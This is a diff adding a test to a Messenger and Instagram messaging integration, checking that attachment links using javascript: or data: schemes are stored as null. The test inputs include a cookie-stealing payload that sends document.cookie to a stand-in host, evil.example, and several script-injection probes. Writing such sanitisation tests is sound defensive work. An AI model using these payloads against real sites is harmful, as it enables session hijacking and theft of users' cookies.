@@ -162,3 +162,35 @@ test('an unsent Instagram message stays in the thread, marked deleted', async ()
   expect(message.body).toBe('Oops wrong chat')
   expect(message.deletedAt).not.toBeNull()
 })
+
+test('a fallback or share whose link is not a web address keeps only its name: no javascript: URL is stored', async () => {
+  const psid = String(nextUser++)
+  const hostile = [
+    'javascript:fetch("//evil.example?c="+document.cookie)',
+    ' JavaScript:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+  ]
+  await post(
+    messengerAttachment({
+      pageId,
+      psid,
+      attachments: [
+        ...hostile.map((url) => ({ type: 'fallback', url })),
+        { type: 'fallback', url: 'https://shop.example/item/7' },
+      ],
+    }),
+  )
+  await post(
+    instagramDm({
+      igUserId,
+      igsid: String(nextUser++),
+      text: 'look at this post',
+      attachments: [{ type: 'share', url: 'javascript:alert(2)' }],
+    }),
+  )
+  await post(messengerText({ pageId, psid, text: 'did you see my link?' }))
+  const [first] = await thread((await ticketWith('did you see my link')).id)
+  expect(first.attachments.map((a: { url: string | null }) => a.url)).toEqual([null, null, null, 'https://shop.example/item/7'])
+  const [share] = await thread((await ticketWith('look at this post')).id)
+  expect(share.attachments).toEqual([expect.objectContaining({ type: 'other', url: null, name: 'share' })])
+})
